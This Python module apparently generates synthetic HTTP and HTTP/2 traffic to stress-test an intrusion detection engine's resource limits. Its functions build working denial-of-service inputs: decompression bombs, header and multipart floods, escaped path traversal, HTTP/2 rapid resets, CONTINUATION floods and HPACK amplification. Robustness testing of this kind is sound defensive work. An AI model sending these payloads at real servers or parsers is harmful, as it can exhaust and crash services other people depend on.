"""Attacks on HTTP, its compression, and HTTP/2."""
import gzip
import lzma
import struct
import zlib

from . import HTTP, attack

#: 32 MiB of zeros as Brotli packs them (RFC 7932): no module of Python's does that.
BROTLI = bytes.fromhex('cfffff7f002400e2b14072effff9ffff0f8004401c1680eefdff')
RANGES = HTTP + ('app-layer.protocols.http.byterange.memcap',)


def get(path=b'/', more=b''):
    return b'GET ' + path + b' HTTP/1.1\r\nHost: www.example.org\r\n' + more + b'\r\n'


def answer(body, more=b''):
    return b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\n' % len(body) + more + b'\r\n' + body


def post(kind, body):
    return b'POST / HTTP/1.1\r\nContent-Type: ' + kind + b'\r\nContent-Length: %d\r\n\r\n' % len(body) + body


@attack('pipelined-requests', caps=HTTP)
def pipelined(wire):
    """the shortest requests, as many in a segment as fit, and their answers"""
    while not wire.full:
        c = wire.connect(80)
        for _ in range(20):
            c.say(0, b'GET / HTTP/1.1\r\n\r\n' * 80)
            c.say(1, b'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n' * 80)


@attack('unanswered-requests', counters=['app_layer.tx_limit'], caps=HTTP)
def unanswered(wire):
    """the shortest requests, which nobody answers"""
    while not wire.full:
        c = wire.connect(80)
        for _ in range(40):
            c.say(0, b'GET / HTTP/1.1\r\n\r\n' * 80)


@attack('many-headers', caps=HTTP)
def many_headers(wire):
    """requests of as many headers as there may be, each with another name"""
    while not wire.full:
        c = wire.connect(80)
        lines = b''.join(b'X%x:%x\r\n' % (n, n) for n in range(900))
        c.say(0, get(b'/', lines))
        c.say(1, answer(b'', lines))


@attack('repeated-headers', caps=HTTP)
def repeated_headers(wire):
    """requests whose headers all have the same name, in different cases"""
    while not wire.full:
        c = wire.connect(80)
        names = [b'aaaa', b'AAAA', b'aAaA', b'AaAa']
        lines = b''.join(names[n % 4] + b':%d\r\n' % n for n in range(1000))
        c.say(0, get(b'/', lines))
        c.say(1, answer(b'', lines))


@attack('folded-headers', caps=HTTP)
def folded_headers(wire):
    """headers that go on over hundreds of lines"""
    while not wire.full:
        c = wire.connect(80)
        c.say(0, get(b'/', b'X-Long: a\r\n' + b' b\r\n' * 2000))


@attack('long-line', caps=HTTP)
def long_line(wire):
    """a request line without an end, a few bytes at a time"""
    while not wire.full:
        c = wire.connect(80)
        c.say(0, b'GET /')
        for _ in range(400):
            c.say(0, b'a' * 40)


@attack('encoded-paths', caps=HTTP)
def encoded_paths(wire):
    """paths of nothing but escapes and steps up"""
    while not wire.full:
        c = wire.connect(80)
        for _ in range(10):
            c.say(0, get(b'/' + b'%2e%2e%2f' * 300 + b'../' * 300))
            c.say(1, answer(b''))


@attack('one-byte-chunks', caps=HTTP)
def one_byte_chunks(wire):
    """bodies in chunks of one byte"""
    while not wire.full:
        c = wire.connect(80)
        c.say(0, get())
        c.say(1, b'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n' + b'1\r\nx\r\n' * 8000 + b'0\r\n\r\n')


def bombs(wire, body, encoding):
    while not wire.full:
        c = wire.connect(80)
        for _ in range(4):
            c.say(0, get())
            c.say(1, answer(body, b'Content-Encoding: ' + encoding + b'\r\n'))


@attack('gzip-bomb', caps=HTTP)
def gzip_bomb(wire):
    """answers of 32 MiB of zeros in gzip"""
    bombs(wire, gzip.compress(bytes(32 << 20), 9, mtime=0), b'gzip')


@attack('gzip-small-bombs', caps=HTTP)
def gzip_small_bombs(wire):
    """answers of 100 KiB of zeros in a hundred bytes of gzip"""
    bombs(wire, gzip.compress(bytes(100 << 10), 9, mtime=0), b'gzip')


@attack('deflate-bomb', caps=HTTP)
def deflate_bomb(wire):
    """answers of 8 MiB of zeros in deflate"""
    bombs(wire, zlib.compress(bytes(8 << 20), 9), b'deflate')


@attack('nested-bomb', caps=HTTP)
def nested_bomb(wire):
    """answers of gzip within gzip within gzip"""
    body = bytes(64 << 20)
    for _ in range(3):
        body = gzip.compress(body, 9, mtime=0)
    bombs(wire, body, b'gzip, gzip, gzip')


@attack('brotli-bomb', caps=HTTP)
def brotli_bomb(wire):
    """answers of 32 MiB of zeros in 26 bytes of Brotli"""
    bombs(wire, BROTLI, b'br')


@attack('lzma-bomb', caps=HTTP)
def lzma_bomb(wire):
    """answers of 16 MiB of zeros in LZMA"""
    bombs(wire, lzma.compress(bytes(16 << 20), format=lzma.FORMAT_ALONE), b'lzma')


@attack('many-parts', caps=HTTP)
def many_parts(wire):
    """forms of thousands of parts, each a file"""
    while not wire.full:
        c = wire.connect(80)
        parts = b''.join(b'--b\r\nContent-Disposition: form-data; name="f"; filename="%d"\r\n\r\nx\r\n' % n for n in range(500))
        c.say(0, post(b'multipart/form-data; boundary=b', parts + b'--b--\r\n'))
        c.say(1, answer(b''))


@attack('almost-boundaries', caps=HTTP)
def almost_boundaries(wire):
    """a form whose data is made of beginnings of its boundary"""
    boundary = b'-' * 60
    while not wire.full:
        c = wire.connect(80)
        data = b'--' + boundary + b'\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n' + \
            (b'\r\n--' + boundary[:-1]) * 1000
        c.say(0, post(b'multipart/form-data; boundary=' + boundary, data))


@attack('many-files', caps=HTTP)
def many_files(wire):
    """answers that are files of a few bytes, each with a name of its own"""
    n = 0
    while not wire.full:
        c = wire.connect(80)
        for _ in range(30):
            n += 1
            c.say(0, get(b'/%d.exe' % n) * 20)
            c.say(1, answer(b'MZ%d' % n) * 20)


@attack('ranges', counters=['file.range_memcap_hit'], caps=RANGES)
def ranges(wire):
    """ranges of files that are never completed, each of another file"""
    n = 0
    while not wire.full:
        c = wire.connect(80)
        for _ in range(40):
            n += 1
            c.say(0, get(b'/%d' % n, b'Range: bytes=100-199\r\n'))
            c.say(1, b'HTTP/1.1 206 Partial Content\r\nContent-Length: 100\r\nContent-Range: bytes 100-199/1000000\r\n\r\n' + b'r' * 100)


@attack('range-pieces', caps=RANGES)
def range_pieces(wire):
    """one file in ranges of ten bytes, last one first"""
    c = wire.connect(80)
    at = 1_000_000
    while not wire.full:
        at = at - 20 if at > 20 else 1_000_000
        c.say(0, get(b'/large'))
        c.say(1, b'HTTP/1.1 206 Partial Content\r\nContent-Length: 10\r\nContent-Range: bytes %d-%d/1000001\r\n\r\n' % (at, at + 9) + b'r' * 10)


PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'


def frame2(kind, flags, stream, data):
    return struct.pack('>I', len(data))[1:] + struct.pack('>BBI', kind, flags, stream) + data


SETTINGS = frame2(4, 0, 0, b'')


@attack('hpack-repetition', caps=HTTP)
def hpack_repetition(wire):
    """header blocks that name an entry of 4 KiB again and again with one byte"""
    while not wire.full:
        c = wire.connect(80)
        c.say(0, PREFACE + SETTINGS)
        c.say(1, SETTINGS)
        # A literal with a new name that goes into the table (RFC 7541 section 6.2.1), of 4,000 bytes.
        value = b'v' * 4000
        length = b'\x7f' + bytes([(len(value) - 127) & 0x7f | 0x80, (len(value) - 127) >> 7])
        first = b'\x82\x84\x86\x40\x01a' + length + value
        stream = 1
        c.say(0, frame2(1, 5, stream, first))
        for _ in range(20):
            stream += 2
            # Entry 62, the newest of the table.
            c.say(0, frame2(1, 5, stream, b'\x82\x84\x86' + b'\xbe' * 4000))


@attack('http2-reset-streams', caps=HTTP)
def reset_streams(wire):
    """requests that are reset as soon as they are made"""
    while not wire.full:
        c = wire.connect(80)
        c.say(0, PREFACE + SETTINGS)
        c.say(1, SETTINGS)
        stream = 1
        for _ in range(20):
            data = b''
            for _ in range(40):
                data += frame2(1, 5, stream, b'\x82\x84\x86') + frame2(3, 0, stream, b'\0\0\0\x08')
                stream += 2
            c.say(0, data)


@attack('http2-open-streams', counters=['app_layer.memcap'], caps=HTTP)
def open_streams(wire):
    """requests that are never ended, by the thousand"""
    while not wire.full:
        c = wire.connect(80)
        c.say(0, PREFACE + SETTINGS)
        c.say(1, SETTINGS)
        for stream in range(1, 8000, 2):
            c.say(0, frame2(1, 4, stream, b'\x82\x84\x86'))
            if wire.full:
                break


@attack('http2-empty-frames', caps=HTTP)
def empty_frames(wire):
    """frames without anything in them"""
    while not wire.full:
        c = wire.connect(80)
        c.say(0, PREFACE + SETTINGS)
        c.say(1, SETTINGS)
        for _ in range(20):
            c.say(0, (frame2(4, 0, 0, b'') + frame2(6, 0, 0, bytes(8)) + frame2(0, 0, 1, b'')) * 100)


@attack('http2-continuations', caps=HTTP)
def continuations(wire):
    """a header block that goes on over continuations of one byte"""
    while not wire.full:
        c = wire.connect(80)
        c.say(0, PREFACE + SETTINGS)
        c.say(1, SETTINGS)
        c.say(0, frame2(1, 0, 1, b'\x82\x84\x86'))
        for _ in range(20):
            c.say(0, frame2(9, 0, 1, b'\x82') * 400)


@attack('colliding-headers', caps=HTTP)
def colliding_headers(wire):
    """requests of as many headers as there may be, with names of one length that begin, end and have in their middle the same"""
    while not wire.full:
        c = wire.connect(80)
        lines = b''.join(b'x%04dm%04dx:1\r\n' % (n, n) for n in range(1000))
        c.say(0, get(b'/', lines))
        c.say(1, answer(b'', lines))


@attack('null-headers', caps=HTTP)
def null_headers(wire):
    """the same with a null byte in each name, each at another place"""
    while not wire.full:
        c = wire.connect(80)
        names = (b'x' * (n % 30) + b'\0' + b'x' * (n // 30) + b'\0' + b'x' * (63 - n % 30 - n // 30) for n in range(900))
        c.say(0, get(b'/', b''.join(name + b':1\r\n' for name in names)))
        c.say(1, answer(b''))
